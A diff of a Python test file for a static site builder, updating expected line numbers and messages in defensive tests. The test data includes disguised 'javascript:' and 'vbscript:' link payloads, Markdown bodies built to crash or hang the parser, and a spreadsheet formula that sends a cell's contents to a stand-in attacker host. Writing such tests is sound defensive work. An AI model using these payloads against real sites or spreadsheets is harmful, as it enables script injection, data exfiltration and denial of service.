@@ -318,18 +318,18 @@ def test_render_workers_die_with_the_build() -> None:
 
 UNSAFE = "is not allowed: link to a page of this site, or to an address starting https://, mailto: or tel:"
 DISGUISES = {  # a body, the line of the problem and the target as the message shows it
-    "character reference": ("[x](jav&#97;script:alert(1))", 9, "jav&#97;script:alert(1)"),
-    "hexadecimal reference": ("[x](&#x6A;avascript:alert(1))", 9, "&#x6A;avascript:alert(1)"),
-    "percent-encoding": ("[x](%6Aavascript:alert(1))", 9, "%6Aavascript:alert(1)"),
-    "upper case": ("[x](JaVaScRiPt:alert(1))", 9, "JaVaScRiPt:alert(1)"),
-    "angle brackets": ("[x](<javascript:alert(1)>)", 9, "javascript:alert(1)"),
-    "spaces around": ("[x](  javascript:alert(1)  )", 9, "javascript:alert(1)"),
-    "on the next line": ("A [link](\njavascript:alert(1)) here.", 10, "javascript:alert(1)"),
-    "reference style": ("See [the page][1].\n\n[1]: javascript:alert(1)", 11, "javascript:alert(1)"),
-    "autolink": ("Go to <javascript:alert(1)> now.", 9, "javascript:alert(1)"),
-    "image": ("![A chart](data:image/png;base64,iVBORw0KGgo=)", 9, "data:image/png;base64,iVBORw0KGgo="),
-    "vbscript": ("[x](vbscript:msgbox(1))", 9, "vbscript:msgbox(1)"),
-    "ftp autolink": ("<ftp://example.org/file>", 9, "ftp://example.org/file"),
+    "character reference": ("[x](jav&#97;script:alert(1))", 10, "jav&#97;script:alert(1)"),
+    "hexadecimal reference": ("[x](&#x6A;avascript:alert(1))", 10, "&#x6A;avascript:alert(1)"),
+    "percent-encoding": ("[x](%6Aavascript:alert(1))", 10, "%6Aavascript:alert(1)"),
+    "upper case": ("[x](JaVaScRiPt:alert(1))", 10, "JaVaScRiPt:alert(1)"),
+    "angle brackets": ("[x](<javascript:alert(1)>)", 10, "javascript:alert(1)"),
+    "spaces around": ("[x](  javascript:alert(1)  )", 10, "javascript:alert(1)"),
+    "on the next line": ("A [link](\njavascript:alert(1)) here.", 11, "javascript:alert(1)"),
+    "reference style": ("See [the page][1].\n\n[1]: javascript:alert(1)", 12, "javascript:alert(1)"),
+    "autolink": ("Go to <javascript:alert(1)> now.", 10, "javascript:alert(1)"),
+    "image": ("![A chart](data:image/png;base64,iVBORw0KGgo=)", 10, "data:image/png;base64,iVBORw0KGgo="),
+    "vbscript": ("[x](vbscript:msgbox(1))", 10, "vbscript:msgbox(1)"),
+    "ftp autolink": ("<ftp://example.org/file>", 10, "ftp://example.org/file"),
 }
 
 
@@ -491,11 +491,11 @@ def test_front_matter_that_would_crash_or_hang_is_a_problem(name: str, tmp_path:
 
 
 MARKDOWN = {  # a body that would crash or hang Python-Markdown, and the start of its problem
-    "lists nested 150 deep": ("".join("    " * depth + "- item\n" for depth in range(150)), "17: "),
-    "quotes nested 300 deep": ("> " * 300 + "quoted", "9: "),
-    "lists nested 10,000 deep on one line": ("- " * 10_000 + "item", "9: "),
-    "50,000 brackets on one line": ("[" * 50_000, "9: "),
-    "8,000 brackets on one line": ("[" * 8_000, "9: "),
+    "lists nested 150 deep": ("".join("    " * depth + "- item\n" for depth in range(150)), "18: "),
+    "quotes nested 300 deep": ("> " * 300 + "quoted", "10: "),
+    "lists nested 10,000 deep on one line": ("- " * 10_000 + "item", "10: "),
+    "50,000 brackets on one line": ("[" * 50_000, "10: "),
+    "8,000 brackets on one line": ("[" * 8_000, "10: "),
 }
 
 
@@ -624,9 +624,9 @@ def test_what_the_content_folder_holds_and_is_not_read_is_reported(tmp_path: Pat
         "content/casestudies/archive:1: this is a folder, so it is not read here: move its files into "
         "content/casestudies/ itself",
         "content/casestudy:1: this is not read: did you mean `casestudies`? the content folder holds only site.yaml "
-        "and the folders actions, areas, casestudies, groups, pages, progress",
+        "and the folders actions, areas, casestudies, groups, organisations, pages, progress, sources",
         "content/notes.txt:1: this is not read: the content folder holds only site.yaml and the folders actions, areas, "
-        "casestudies, groups, pages, progress",
+        "casestudies, groups, organisations, pages, progress, sources",
         "content/pages:1: this is a link to /etc, outside the content folder, which is not read: put the folder itself "
         "in the content folder",
         f"{len(err.splitlines()) - 1} problems found.",
@@ -666,11 +666,11 @@ def test_feed_and_sitemap_are_always_well_formed(tmp_path: Path, capsys: pytest.
 def test_a_formula_in_a_csv_cell_is_made_plain_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     title = '=HYPERLINK("https://evil.example/?"&A1, "Click")'
     write_content(tmp_path, {"casestudies/01-friends-of-parks.md": casestudy(1, title.replace('"', '\\"')).replace(
-        'summary: "A summary', 'summary: "-1 summary', 1)})
+        'summary: "We met', 'summary: "-1 We met', 1)})
     assert run(tmp_path, capsys, "build", "--no-search")[0] == 0
     csv_text = (tmp_path / "site" / "data" / "casestudies.csv").read_text(encoding="utf-8-sig")
     assert "'=HYPERLINK(" in csv_text and ",=HYPERLINK(" not in csv_text and ",\"=HYPERLINK(" not in csv_text
-    assert "'-1 summary" in csv_text
+    assert "'-1 We met" in csv_text
     assert f'"title": "{title.replace(chr(34), chr(92) + chr(34))}"' in \
         (tmp_path / "site" / "data" / "casestudies.json").read_text(encoding="utf-8")  # JSON keeps it exactly
     assert "has an apostrophe (') put before it" in (tmp_path / "site" / "data" / "index.html").read_text(
